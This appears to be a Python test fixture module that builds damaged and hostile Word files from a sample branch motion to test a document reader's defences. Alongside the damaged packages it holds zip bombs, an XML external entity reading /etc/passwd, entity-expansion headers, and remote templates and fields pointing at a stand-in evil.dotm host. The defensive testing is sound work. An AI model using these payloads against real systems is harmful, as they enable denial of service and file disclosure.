"""Word files as strangers may send them: a sound motion, and that motion damaged or
made into a bomb in each of the ways a hostile round found. Every file is made here,
in the test, from a motion we wrote ourselves; no binary fixtures.

Each builder returns the .docx as bytes. The bombs are small on disk (a few hundred
KB at most) and inflate to hundreds of MB, as the ones found did.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterable

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

MOTION = [
    ("Title", "Keep our libraries open"),
    (None, "Submitted by: Anytown Branch"),
    (None, "This branch notes:"),
    (None, "1. The council plans to close four of its nine libraries."),
    (None, "This branch resolves:"),
    (None, "2. To campaign with library users to keep every library open."),
]


def good() -> bytes:
    """A sound motion, as python-docx writes one: title, label, leads and clauses."""
    import docx

    document = docx.Document()
    for style, text in MOTION:
        document.add_paragraph(text, style=style)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def letterhead(*, logo: bytes | None = None) -> bytes:
    """A branch letterhead: a header (with a logo, if given), a footer, a style."""
    import docx
    from docx.shared import Mm, Pt

    document = docx.Document()
    section = document.sections[0]
    section.header.paragraphs[0].text = "Anytown Branch · 1 High Street"
    if logo is not None:
        run = section.header.paragraphs[0].insert_paragraph_before().add_run()
        run.add_picture(io.BytesIO(logo), width=Mm(30))
    section.footer.paragraphs[0].text = "Promoted by the Anytown Branch secretary"
    document.styles["Normal"].font.size = Pt(13)
    document.add_paragraph("Letterhead text the motion replaces.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def members(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(
    package: bytes,
    replace: dict[str, bytes | Callable[[bytes], bytes] | None] | None = None,
    *,
    add: dict[str, bytes] | None = None,
    streams: dict[str, Iterable[bytes]] | None = None,
) -> bytes:
    """The package with parts replaced (a function of the old bytes), dropped (None),
    added, or written from a stream of chunks (for bombs: never held whole)."""
    replace = replace or {}
    buffer = io.BytesIO()
    with (
        warnings.catch_warnings(),  # a part added twice, on purpose
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        warnings.simplefilter("ignore", UserWarning)
        for name, data in members(package).items():
            if name in (streams or {}):
                continue
            new = replace.get(name, data)
            if callable(new):
                new = new(data)
            if new is not None:
                archive.writestr(name, new)
        for name, data in (add or {}).items():
            archive.writestr(name, data)
        for name, chunks in (streams or {}).items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as handle:
                for chunk in chunks:
                    handle.write(chunk)
    return buffer.getvalue()


def _document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()


def _repeated(head: bytes, unit: bytes, count: int, tail: bytes) -> Iterable[bytes]:
    yield head
    block = unit * max(1, 1_000_000 // len(unit))
    written = 0
    while written < count:
        n = min(count - written, 1_000_000 // len(unit))
        yield block if n * len(unit) == len(block) else unit * n
        written += n
    yield tail


def _body_bomb(unit: bytes, count: int) -> bytes:
    head = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>'
    ).encode()
    tail = b"</w:body></w:document>"
    return rezip(good(), streams={"word/document.xml": _repeated(head, unit, count, tail)})


# --- bombs --------------------------------------------------------------------------------------


def empty_paragraphs(count: int = 40_000_000) -> bytes:
    """Hundreds of MB of empty paragraphs in a few hundred KB."""
    return _body_bomb(b"<w:p/>", count)


def short_paragraphs(count: int = 8_000_000) -> bytes:
    return _body_bomb(b"<w:p><w:r><w:t>a</w:t></w:r></w:p>", count)


def spaces_in_a_part(count: int = 600_000_000) -> bytes:
    """One paragraph of hundreds of MB of spaces."""
    head = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t xml:space="preserve">'
    ).encode()
    tail = b"x</w:t></w:r></w:p></w:body></w:document>"
    return rezip(good(), streams={"word/document.xml": _repeated(head, b" ", count, tail)})


def many_sections(count: int = 25_000) -> bytes:
    paragraph = "<w:p><w:pPr><w:sectPr/></w:pPr><w:r><w:t>s</w:t></w:r></w:p>"
    return rezip(good(), {"word/document.xml": _document(paragraph * count)})


def many_parts(count: int = 20_000) -> bytes:
    return rezip(good(), add={f"word/media/x{i}.bin": b"" for i in range(count)})


def letterhead_with_a_huge_picture(size: int = 400_000_000) -> bytes:
    """A letterhead whose header's picture inflates to hundreds of MB."""
    from wordtools import tiny_png

    package = letterhead(logo=tiny_png())
    image = next(name for name in members(package) if name.startswith("word/media/"))
    png = tiny_png()
    return rezip(package, streams={image: _repeated(png, b"\0", size, b"")})


def letterhead_with_macros_and_links() -> bytes:
    """A letterhead carrying a macro project, a remote template, a linked picture and a
    web link in its footer, and a part of its own: none of it belongs in a motion."""
    package = letterhead()

    def doc_rels(data: bytes) -> bytes:
        extra = (
            '<Relationship Id="rIdVba" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/>'
            f'<Relationship Id="rIdOwn" Type="{RT}/customXml" Target="../customXml/item9.xml"/>'
        )
        return data.replace(b"</Relationships>", extra.encode() + b"</Relationships>")

    def settings_rels(_: bytes) -> bytes:
        return (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="{PKG_RELS}"><Relationship Id="rIdT" '
            f'Type="{RT}/attachedTemplate" Target="http://example.invalid/evil.dotm" '
            'TargetMode="External"/></Relationships>'
        ).encode()

    def settings(data: bytes) -> bytes:
        data = data.replace(
            b"<w:defaultTabStop", b'<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop', 1
        )
        if b"xmlns:r=" not in data:
            data = data.replace(b"<w:settings ", f'<w:settings xmlns:r="{R_NS}" '.encode(), 1)
        return data

    names = members(package)
    footer = next(n for n in names if n.startswith("word/footer"))
    footer_rels = footer.replace("word/", "word/_rels/") + ".rels"

    def footer_xml(data: bytes) -> bytes:
        link = (
            f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdWeb"><w:r><w:t>example.invalid</w:t>'
            "</w:r></w:hyperlink>"
        ).encode()
        return data.replace(b"</w:p>", link + b"</w:p>", 1)

    def content_types(data: bytes) -> bytes:
        vba = (
            '<Override PartName="/word/vbaProject.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/customXml/item9.xml" ContentType="application/xml"/>'
        )
        return data.replace(b"</Types>", vba.encode() + b"</Types>")

    return rezip(
        package,
        {
            "word/_rels/document.xml.rels": doc_rels,
            "word/settings.xml": settings,
            footer: footer_xml,
            "[Content_Types].xml": content_types,
        },
        add={
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro project",
            "customXml/item9.xml": b"<own>data</own>",
            "word/_rels/settings.xml.rels": settings_rels(b""),
            footer_rels: (
                f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                f'<Relationships xmlns="{PKG_RELS}"><Relationship Id="rIdWeb" '
                f'Type="{RT}/hyperlink" Target="http://example.invalid/" '
                'TargetMode="External"/></Relationships>'
            ).encode(),
        },
    )


# --- damage ---------------------------------------------------------------------------------------


def _patch_headers(
    package: bytes, name: str, patch: Callable[[bytearray, int, bool], None]
) -> bytes:
    """The package with the local and central headers of ``name`` patched in place:
    ``patch(data, offset_of_header, central)``."""
    data = bytearray(package)
    encoded = name.encode()
    at = 0
    while (at := data.find(encoded, at)) != -1:
        if data[at - 30 : at - 26] == b"PK\x03\x04":
            patch(data, at - 30, False)
        elif data[at - 46 : at - 42] == b"PK\x01\x02":
            patch(data, at - 46, True)
        at += 1
    return bytes(data)


def unsupported_compression(method: int = 9) -> bytes:
    """document.xml said to be compressed with a method zip readers rarely know
    (9: Deflate64)."""

    def patch(data: bytearray, at: int, central: bool) -> None:
        struct.pack_into("<H", data, at + (10 if central else 8), method)

    return _patch_headers(good(), "word/document.xml", patch)


def encrypted_entry() -> bytes:
    def patch(data: bytearray, at: int, central: bool) -> None:
        offset = at + (8 if central else 6)
        (flags,) = struct.unpack_from("<H", data, offset)
        struct.pack_into("<H", data, offset, flags | 1)

    return _patch_headers(good(), "word/document.xml", patch)


def corrupt_deflate() -> bytes:
    """document.xml's compressed bytes overwritten in the middle."""
    package = good()
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        info = archive.getinfo("word/document.xml")
    data = bytearray(package)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 3
    data[middle : middle + 40] = b"\xff" * 40
    return bytes(data)


def no_body() -> bytes:
    return rezip(good(), {"word/document.xml": (f'<w:document xmlns:w="{W_NS}"/>').encode()})


def wrong_root() -> bytes:
    return rezip(
        good(), {"word/document.xml": f'<w:styles xmlns:w="{W_NS}"><w:body/></w:styles>'.encode()}
    )


def relationship_without_target() -> bytes:
    def drop_target(data: bytes) -> bytes:
        import re

        return re.sub(rb'(Type="[^"]*/styles")\s+Target="[^"]*"', rb"\1", data)

    return rezip(good(), {"word/_rels/document.xml.rels": drop_target})


def no_relationships() -> bytes:
    return rezip(good(), {"_rels/.rels": None})


def missing_content_type() -> bytes:
    """No content type for the styles part: neither an override nor a default."""

    def drop(data: bytes) -> bytes:
        import re

        data = re.sub(rb'<Override PartName="/word/styles.xml"[^>]*/>', b"", data)
        return re.sub(rb'<Default Extension="xml"[^>]*/>', b"", data)

    return rezip(good(), {"[Content_Types].xml": drop})


def letterhead_without_normal() -> bytes:
    def drop(data: bytes) -> bytes:
        from lxml import etree

        root = etree.fromstring(data)
        for style in root.findall(f"{{{W_NS}}}style"):
            name = style.find(f"{{{W_NS}}}name")
            if name is not None and name.get(f"{{{W_NS}}}val") == "Normal":
                root.remove(style)
        return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)

    return rezip(letterhead(), {"word/styles.xml": drop})


ENTITY_HEADER = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE w:hdr [<!ENTITY lol "lollollollollollollollollollol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>\n'
    f'<w:hdr xmlns:w="{W_NS}"><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:hdr>'
).encode()


def entity_in_header(*, letterhead_file: bool = True) -> bytes:
    """A header part that declares entities (the start of a 'billion laughs')."""
    package = letterhead() if letterhead_file else good()
    header = next(
        (n for n in members(package) if n.startswith("word/header") and n.endswith(".xml")),
        None,
    )
    if header is None:  # a motion with no header: the entity goes in the body instead
        return rezip(package, {"word/document.xml": ENTITY_HEADER.replace(b"w:hdr", b"w:document")})
    return rezip(package, {header: ENTITY_HEADER})


def entity_in_body() -> bytes:
    body = (
        '<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY secret SYSTEM '
        '"file:///etc/passwd">]>\n'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    return rezip(good(), {"word/document.xml": body})


def cut_short() -> bytes:
    package = good()
    return package[: len(package) * 2 // 3]


# Each shape: how to make it, and the words its one line says (what is wrong).
DAMAGED: dict[str, tuple[Callable[[], bytes], str]] = {
    "unsupported-compression": (unsupported_compression, "compressed in a way"),
    "encrypted-entry": (encrypted_entry, "encrypted"),
    "corrupt-deflate": (corrupt_deflate, "is corrupt"),
    "no-body": (no_body, "has no body"),
    "wrong-root": (wrong_root, "not a Word document body"),
    "relationship-without-target": (relationship_without_target, "has no target"),
    "no-relationships": (no_relationships, "no relationships part (_rels/.rels)"),
    "missing-content-type": (missing_content_type, "word/styles.xml has no content type"),
    "entity-in-body": (entity_in_body, "DOCTYPE"),
}
BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty-paragraphs": (empty_paragraphs, "inflates to more than 20 MB"),
    "short-paragraphs": (short_paragraphs, "inflates to more than 20 MB"),
    "spaces-in-a-part": (spaces_in_a_part, "inflates to more than 20 MB"),
    "many-sections": (many_sections, "more than 500 sections"),
    "many-parts": (many_parts, "parts"),
    "paragraphs-under-the-size-limit": (
        lambda: short_paragraphs(500_000),
        "more than 20,000 paragraphs",
    ),
}
LETTERHEADS: dict[str, tuple[Callable[[], bytes], str]] = {
    "letterhead-without-normal": (letterhead_without_normal, 'no "Normal" style'),
    "entity-in-header": (entity_in_header, "DOCTYPE"),
    "huge-picture": (letterhead_with_a_huge_picture, "picture word/media/image1.png"),
}


def zip_version_too_new() -> bytes:
    """A central directory entry saying it needs zip version 6.4 to extract (which
    Python's zipfile refuses with NotImplementedError, found by the fuzzer)."""

    def patch(data: bytearray, at: int, central: bool) -> None:
        if central:
            struct.pack_into("<H", data, at + 6, 64)

    return _patch_headers(good(), "word/styles.xml", patch)


DAMAGED["zip-version-too-new"] = (zip_version_too_new, "damaged and cannot be read")


def letterhead_with_outside_things_in_its_header() -> bytes:
    """A header holding an embedded object, a picture linked from the web, a chunk of
    another file to insert and two fields that fetch from outside when updated."""
    header = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:hdr xmlns:w="{W_NS}" '
        f'xmlns:r="{R_NS}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:o="urn:schemas-microsoft-com:office:office">'
        "<w:p><w:r><w:t>Anytown Branch</w:t></w:r>"
        '<w:r><w:object><o:OLEObject r:id="rOle"/></w:object></w:r>'
        '<w:r><w:drawing><a:blip r:link="rLinked"/></w:drawing></w:r>'
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://example.invalid/x.png&quot; ">'
        "<w:r><w:t>the picture</w:t></w:r></w:fldSimple>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> INCLUDETEXT "http://example.invalid/t" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '</w:p><w:altChunk r:id="rChunk"/></w:hdr>'
    ).encode()
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{PKG_RELS}">'
        f'<Relationship Id="rOle" Type="{RT}/oleObject" Target="embeddings/ole.bin"/>'
        f'<Relationship Id="rLinked" Type="{RT}/image" '
        'Target="http://example.invalid/logo.png" TargetMode="External"/>'
        f'<Relationship Id="rChunk" Type="{RT}/aFChunk" Target="chunk.html"/>'
        "</Relationships>"
    ).encode()
    return rezip(
        letterhead(),
        {"word/header1.xml": header},
        add={
            "word/_rels/header1.xml.rels": rels,
            "word/embeddings/ole.bin": b"an embedded object",
            "word/chunk.html": b"<html>inserted</html>",
        },
    )


def letterhead_with_settings_in_another_namespace() -> bytes:
    """settings.xml whose root is 'settings' in a namespace one letter off (the
    fuzzer's find: python-docx took it for the settings part)."""
    return rezip(
        letterhead(),
        {
            "word/settings.xml": lambda data: data.replace(
                f'xmlns:w="{W_NS}"'.encode(), f'xmlns:w="/{W_NS[1:]}"'.encode(), 1
            )
        },
    )


LETTERHEADS["settings-in-another-namespace"] = (
    letterhead_with_settings_in_another_namespace,
    "is not the settings part",
)
